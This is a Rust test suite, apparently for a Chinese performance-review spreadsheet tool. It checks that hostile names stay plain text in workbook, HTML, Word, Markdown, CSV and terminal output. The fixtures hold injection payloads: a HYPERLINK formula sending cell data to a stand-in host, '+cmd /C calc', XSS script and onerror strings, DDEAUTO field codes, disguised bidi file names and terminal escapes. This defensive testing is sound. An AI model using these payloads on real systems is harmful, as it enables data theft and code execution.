//! What units, files and books may be called to do harm: in no product does it become more than text.

mod agreement;
mod drawn;

use std::fs;
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::LazyLock;

use agreement::{Book, links_that_mislead, of_docx, of_markdown, page_against_book, text_against_book};
use drawn::write;
use jixiao::ooxml::Limits;
use jixiao::text::is_steering;
use jixiao::value::parse_number;
use jixiao::workbook::Workbook;
use quick_xml::Reader;
use quick_xml::events::Event;
use regex::Regex;

const FORM: &str = include_str!("drawn/self-evaluation.txt");

/// Names of units and projects; a grid takes `'` for the mark of a text.
const NAMES: [&str; 12] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
    "+cmd /C calc",
    "-2+3",
    "@SUM(A1:A9)",
    "甲局;=1+1",
    "</script><script>alert(1)</script>",
    "]]></t></is><!--<w:p/>&amp;\"'`",
    "javascript:alert(1)",
    "{ INCLUDETEXT \"C:\\secret\" } { DDEAUTO c:\\x }",
    "\u{202e}局务水\u{202c}😀👩‍👧\u{200f}",
    "<img src=x onerror=alert(1)> [点我](javascript:x) 'a'#b",
    "_x0041_ _x000D_",
];

/// Names of files.
const FILES: [&str; 12] = [
    "=cmd.xlsx",
    "+1.xlsx",
    "-1.xlsx",
    "@a.xlsx",
    "a#b.xlsx",
    "it's \"x\" & y.xlsx",
    "javascript:alert(1).xlsx",
    "<b>x.xlsx",
    "50%20.xlsx",
    "\u{202e}xslx.exe.xlsx",
    "😀.xlsx",
    "]]>.xlsx",
];

/// A round of such units and files, reviewed in every format.
static REVIEWED: LazyLock<PathBuf> = LazyLock::new(|| {
    let dir = empty_folder("hostile");
    let root = dir.as_path();
    let mut roster = "部门|单位|应报表单|应报项目数|应报金额（万元）".to_owned();
    let mut ledger = "项目编码|项目名称|单位|金额（万元）".to_owned();
    for (number, (name, file)) in NAMES.iter().zip(FILES).enumerate() {
        roster.push_str(&format!("\n'{name}|'{name}|项目支出绩效自评表|2|60"));
        ledger.push_str(&format!("\n|'{name}工程|'{name}|50\n|'{name}没有报的工程|'{name}|10"));
        // Shares of these sums are not the same when they are rounded twice.
        let form = FORM.replace("|50|50|50|10|100%|10", "|100000|100000|12346|10|12.35%|1.23");
        let form = form.replace("UNIT", &format!("'{name}")).replace("清水渠维护|<", &format!("'{name}工程|<"));
        let long = format!("{name}{}", "长".repeat(10_000));
        let form = form.replace("全年维护清水渠12公里，灌区农田用水有保障，没有发生断水。", &format!("'{long}\u{1}"));
        write(&root.join(format!("收件/{number}/{file}")), &form);
    }
    write(&root.join("名册.xlsx"), &roster);
    write(&root.join("台账.xlsx"), &ledger);
    write(&root.join("收件/通讯录 =1+1 <b>.xlsx"), "姓名|电话\n甲|1");
    let config = "[round]\nregion = \"=澄岚区<b>\\\"\"\nname = \"2023年度]]></script>\"\n[letter]\nbureau = \"@财政局 & 税务局\\u202e\"\n";
    fs::write(root.join("jixiao.toml"), config).expect("a file");
    let books = ["--roster", "名册.xlsx", "--ledger", "台账.xlsx", "--fail-on", "never"];
    ran(root, &[&["review", "收件", "--out", "出", "--format", "xlsx,html,docx,md"], &books[..]].concat());
    let csv = ran(root, &[&["check", "收件", "--format", "csv"], &books[..]].concat());
    fs::write(root.join("出/问题.csv"), csv).expect("a file");
    ran(root, &["sample", "出", "--rate", "100%", "--out", "出/抽查名单.xlsx"]);
    dir
});

/// A folder of this name, empty: what a static holds is never dropped.
fn empty_folder(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    if dir.exists() {
        fs::remove_dir_all(&dir).expect("an old folder goes");
    }
    fs::create_dir_all(&dir).expect("a folder");
    dir
}

/// Runs the command; its standard output.
fn ran(dir: &Path, args: &[&str]) -> Vec<u8> {
    let output = Command::new(env!("CARGO_BIN_EXE_jixiao")).current_dir(dir).args(args).output();
    let output = output.expect("the command starts");
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

fn bytes(name: &str) -> Vec<u8> {
    fs::read(REVIEWED.join("出").join(name)).unwrap_or_else(|error| panic!("{name}: {error}"))
}

fn text(name: &str) -> String {
    String::from_utf8(bytes(name)).expect("UTF-8")
}

/// The parts of a package that are XML.
fn parts(package: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(package)).expect("an archive");
    let names: Vec<String> = archive
        .file_names()
        .map(|name| name.expect("a name").into_owned())
        .filter(|name| !name.ends_with('/'))
        .collect();
    let mut part = |name: String| {
        let mut text = String::new();
        archive.by_name(&name).expect("the part").read_to_string(&mut text).expect("UTF-8");
        (name, text)
    };
    names.into_iter().map(&mut part).collect()
}

/// Makes sure that a part is well-formed and holds no character that XML 1.0 forbids or that turns text round.
fn well_formed(name: &str, xml: &str) {
    let mut reader = Reader::from_str(xml);
    reader.config_mut().check_end_names = true;
    let mut depth = 0_i32;
    loop {
        match reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}")) {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth -= 1,
            Event::Eof => break,
            Event::CData(_) | Event::DocType(_) | Event::Comment(_) => panic!("{name}: more than elements and text"),
            _ => {}
        }
    }
    assert_eq!(depth, 0, "{name}");
    let steering = xml.chars().find(|c| is_steering(*c) && !matches!(c, '\n' | '\r' | '\t'));
    assert!(steering.is_none(), "{name}: {steering:?}");
}

#[test]
fn in_workbooks_it_is_neither_formula_nor_markup_nor_a_way_out() {
    let ours = Regex::new(r#"^(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z+\d]+=0,"—",\([A-Z+\d]+\)/\([A-Z+\d]+\)\))$"#);
    let ours = ours.expect("a pattern");
    let target = Regex::new(r#"Target="([^"]*)"[^>]*TargetMode="External""#).expect("a pattern");
    let formula = Regex::new(r"(?s)<f>(.*?)</f>").expect("a pattern");
    for name in ["统计.xlsx", "抽查名单.xlsx"] {
        let workbook = bytes(name);
        let mut formulas = 0;
        for (part, xml) in parts(&workbook) {
            well_formed(&format!("{name} {part}"), &xml);
            for found in formula.captures_iter(&xml) {
                let found = found[1].replace("&quot;", "\"");
                assert!(part.contains("charts/") || ours.is_match(&found), "{name} {part}: {found}");
                formulas += 1;
            }
            if part.ends_with(".rels") {
                for found in target.captures_iter(&xml) {
                    assert!(found[1].starts_with("退回/"), "{name} {part}: {}", &found[1]);
                }
            }
        }
        assert!(formulas > 3, "{name} has its own formulas");
        let read = Workbook::open(workbook.into(), &Limits::default()).expect("a workbook");
        let cells = read.sheets.iter().flat_map(|sheet| sheet.cells());
        let said: Vec<String> = cells.map(|(_, cell)| cell.shown().into_owned()).collect();
        for name in NAMES {
            let seen: String = name.chars().filter(|c| !is_steering(*c)).collect();
            assert!(said.iter().any(|cell| cell.contains(&seen)), "{seen} is told as it is written");
        }
    }
    let faults = links_that_mislead(&bytes("统计.xlsx"));
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn links_open_the_returned_file_whatever_it_is_called() {
    let link = Regex::new(r#"Target="([^"]*)"[^>]*TargetMode="External""#).expect("a pattern");
    let mut opened = 0;
    for (part, xml) in parts(&bytes("统计.xlsx")).into_iter().filter(|(part, _)| part.ends_with(".rels")) {
        for found in link.captures_iter(&xml) {
            let path = [("&amp;", "&"), ("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&apos;", "'")];
            let path = path.into_iter().fold(found[1].to_owned(), |path, (code, c)| path.replace(code, c));
            let path = unescaped(path.split('#').next().unwrap_or_default());
            assert!(REVIEWED.join("出").join(&path).is_file(), "{part}: {path}");
            opened += 1;
        }
    }
    assert!(opened >= FILES.len() - 3, "{opened} links");
}

/// `%20` and its like in a URL.
fn unescaped(url: &str) -> String {
    let mut out = Vec::new();
    let mut rest = url.bytes();
    while let Some(byte) = rest.next() {
        let code: Option<u8> = (byte == b'%').then(|| {
            let digits: String = rest.by_ref().take(2).map(char::from).collect();
            u8::from_str_radix(&digits, 16).expect("two digits")
        });
        out.push(code.unwrap_or(byte));
    }
    String::from_utf8(out).expect("UTF-8")
}

#[test]
fn in_the_list_for_spreadsheets_no_field_is_a_formula_however_it_is_cut_up() {
    let text = text("问题.csv");
    let mut lines =
        csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut fields = 0;
    for line in lines.records() {
        for field in line.expect("a line").iter() {
            let risky = field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
            assert!(!risky || parse_number(field).is_some(), "{field}");
            fields += 1;
        }
    }
    assert!(fields > 500);
    // A program that parts fields at `;` or tabs leaves whole what stands in quotes.
    let outside = text.split('"').step_by(2).collect::<String>();
    assert!(!outside.contains([';', '\t']), "a separator outside of quotes");
    let steering = text.chars().skip(1).find(|c| is_steering(*c) && !matches!(c, '\n' | '\r'));
    assert!(steering.is_none(), "{steering:?}");
}

#[test]
fn on_the_page_it_is_text() {
    let page = text("报告.html");
    assert_eq!(page.matches("<script").count(), page.matches("</script>").count());
    let without_data =
        Regex::new(r#"(?s)<script type="application/json" id="d\d+">[^<]*</script>"#).expect("a pattern");
    let page = without_data.replace_all(&page, "").into_owned();
    assert_eq!(page.matches("<script").count(), 1, "our own");
    let own = Regex::new(r"(?s)<(script|style)>.*?</(?:script|style)>").expect("a pattern");
    let page = own.replace_all(&page, "").into_owned();
    let tag = Regex::new(r#"<(?:/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z0-9:-]+(?:="[^"]*")?)*)\s*/?|!DOCTYPE html)>"#);
    let tag = tag.expect("a pattern");
    let attribute = Regex::new(r#"\s([a-zA-Z0-9:-]+)="([^"]*)""#).expect("a pattern");
    // Every `<` begins a tag of ours.
    assert_eq!(page.matches('<').count(), tag.find_iter(&page).count());
    for found in tag.captures_iter(&page) {
        let name = found.get(1).map_or("", |name| name.as_str());
        assert!(!["img", "iframe", "object", "embed", "form", "w", "b2"].contains(&name), "{}", &found[0]);
        let attributes = found.get(2).map_or("", |name| name.as_str());
        for one in attribute.captures_iter(attributes) {
            assert!(!one[1].starts_with("on"), "{}", &found[0]);
            if &one[1] == "href" {
                assert!(one[2].starts_with('#') || one[2].starts_with("./"), "{}", &found[0]);
            }
        }
    }
    let steering = page.chars().find(|c| is_steering(*c) && *c != '\n');
    assert!(steering.is_none(), "{steering:?}");
}

#[test]
fn in_documents_it_is_neither_field_nor_markup() {
    for name in ["说明.docx", "通报.docx", "催报.docx"] {
        for (part, xml) in parts(&bytes(name)) {
            well_formed(&format!("{name} {part}"), &xml);
            let fields = ["instrText", "fldSimple", "w:hyperlink", "w:object"];
            let is_footer = part.contains("footer");
            assert!(is_footer || !fields.iter().any(|field| xml.contains(field)), "{name} {part}");
            assert!(!xml.contains("TargetMode"), "{name} {part}");
        }
    }
    let markup = Regex::new(r"(^|[^\\])(<|\]\(|`)").expect("a pattern");
    for name in ["说明.md", "通报.md", "催报.txt"] {
        let text = text(name);
        let steering = text.chars().find(|c| is_steering(*c) && *c != '\n');
        assert!(steering.is_none(), "{name}: {steering:?}");
        if !name.ends_with(".txt") {
            let found = markup.find(&text).map(|found| found.as_str());
            assert!(found.is_none(), "{name}: {found:?}");
        }
    }
}

#[test]
fn what_goes_back_to_the_units_is_text_too() {
    let (mut workbooks, mut letters) = (0, 0);
    for entry in walkdir::WalkDir::new(REVIEWED.join("出/退回")).into_iter().map(|entry| entry.expect("an entry")) {
        let path = entry.path();
        let shown = path.display();
        let kind = path.extension().and_then(|kind| kind.to_str());
        let (Some("xlsx" | "docx"), true) = (kind, entry.file_type().is_file()) else { continue };
        let all = parts(&fs::read(path).expect("a file"));
        // The drawn forms hold no formula, so a formula would be one that a text became.
        let formulas = all.iter().filter(|(_, xml)| xml.contains("<f>") || xml.contains("<f ") || xml.contains("<f/>"));
        assert_eq!(formulas.count(), 0, "{shown}");
        let fields = ["instrText", "fldSimple", "w:hyperlink", "w:object", "ddeLink"];
        for (part, xml) in &all {
            let is_footer = part.contains("footer");
            // The list of problems leads to the cells of the workbooks that lie beside it, and nothing leads anywhere else.
            for link in xml.split("<Relationship ").filter(|link| link.contains("TargetMode=\"External\"")) {
                let target = link.split_once("Target=\"").and_then(|(_, rest)| rest.split('"').next()).unwrap_or("");
                let is_beside = target.split('#').next().is_some_and(|file| !file.contains([':', '/', '\\']));
                assert!(is_beside && shown.to_string().ends_with("问题清单.xlsx"), "{shown} {part} {target}");
            }
            assert!(is_footer || !fields.iter().any(|field| xml.contains(field)), "{shown} {part}");
            // What the unit wrote itself stays as it wrote it.
            let is_ours = kind == Some("docx") || part.contains("comments") || shown.to_string().contains("问题清单");
            if is_ours {
                well_formed(&format!("{shown} {part}"), xml);
            }
        }
        if kind == Some("xlsx") {
            workbooks += 1;
            Workbook::open(fs::read(path).expect("a file").into(), &Limits::default()).expect("a workbook");
        } else {
            letters += 1;
        }
    }
    assert!(workbooks >= 2 * FILES.len() - 2 && letters >= FILES.len() - 2, "{workbooks} workbooks, {letters} letters");
}

/// Escapes, a control character of one byte in Latin-1, marks that turn text round, a line end, and markup.
const STEERING: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{202e}<b>\u{2066}=1+1";

#[test]
fn on_the_screen_no_command_lets_a_name_or_a_cell_steer_the_terminal() {
    let dir = empty_folder("hostile-screen");
    let root = dir.as_path();
    let form = FORM.replace("UNIT", &format!("'甲{STEERING}局")).replace("清水渠维护|<", &format!("'渠{STEERING}|<"));
    write(&root.join("收件/甲.xlsx"), &form);
    write(&root.join("收件/乙.xlsx"), &form.replace("100%|10", "90%|10"));
    write(&root.join("收件/丙.xlsx"), &format!("姓名|'{STEERING}\n甲|1"));
    write(&root.join("名册.xlsx"), &format!("部门|单位|应报表单\n'部{STEERING}|'单{STEERING}|'表{STEERING}"));
    // Such names are none on Windows.
    let odd = if cfg!(unix) { format!("坏{STEERING}").replace('/', "") } else { "坏".to_owned() };
    fs::write(root.join("收件").join(format!("{odd}.xlsx")), "no workbook").expect("a file");
    fs::write(root.join("收件").join(format!("{odd}.txt")), "no workbook").expect("a file");
    fs::write(root.join(format!("{odd}.toml")), format!("\"{STEERING}\" = 1").replace(['\u{1b}', '\u{7}'], ""))
        .expect("a file");
    let wrong = format!("{odd}.没有");
    let (bad, policy) = (format!("收件/{odd}.xlsx"), format!("{odd}.toml"));
    let commands: [&[&str]; 19] = [
        &["check", "收件"],
        &["check", "收件", "--format", "json"],
        &["check", "收件", "--format", "csv"],
        &["check", "收件", "--roster", "名册.xlsx"],
        &["check", &wrong],
        &["check", &bad],
        &["check", "收件", "--policy", &policy],
        &["review", "收件", "--out", "出", "--force"],
        &["review", "收件", "--diff"],
        &["review", "收件", "--out", &bad],
        &["diff", "收件/甲.xlsx", "收件/乙.xlsx"],
        &["diff", "收件/甲.xlsx", "收件/乙.xlsx", "--format", "json"],
        &["decisions", "收件", "--out", "登记.xlsx"],
        &["apply", "收件", "--out", "采纳"],
        &["clean", "收件", "--out", "清"],
        &["schema", "check", &policy],
        &["schema", "new", "--from", "收件/丙.xlsx"],
        &["explain", &wrong],
        &[&wrong],
    ];
    for args in commands {
        let output = Command::new(env!("CARGO_BIN_EXE_jixiao")).current_dir(root).args(args).output();
        let output = output.expect("the command starts");
        assert!(matches!(output.status.code(), Some(0..=2)), "{args:?}: {}", output.status);
        for bytes in [&output.stdout, &output.stderr] {
            let text = String::from_utf8(bytes.clone()).expect("UTF-8");
            let text = text.trim_start_matches('\u{feff}').replace("\r\n", "\n");
            let steering = text.char_indices().find(|(_, c)| !matches!(c, '\n' | '\t') && is_steering(*c));
            assert!(steering.is_none(), "{args:?}: {steering:?} in {text:?}");
        }
    }
    let json = ran(root, &["check", "收件", "--format", "json", "--fail-on", "never"]);
    let json: serde_json::Value = serde_json::from_slice(&json).expect("JSON");
    assert!(json.to_string().contains("\u{202e}"), "programs are told what stands in the cell");
}

#[test]
fn the_products_agree_all_the_same() {
    let book = Book::read(bytes("统计.xlsx"));
    let mut faults = page_against_book(&text("报告.html"), &book);
    faults.extend(text_against_book(&of_markdown(&text("说明.md")), &book));
    faults.extend(text_against_book(&of_docx(&bytes("说明.docx")), &book));
    // The names of units that owe forms hold figures here.
    faults.retain(|fault| !fault.starts_with("a figure without a note"));
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}
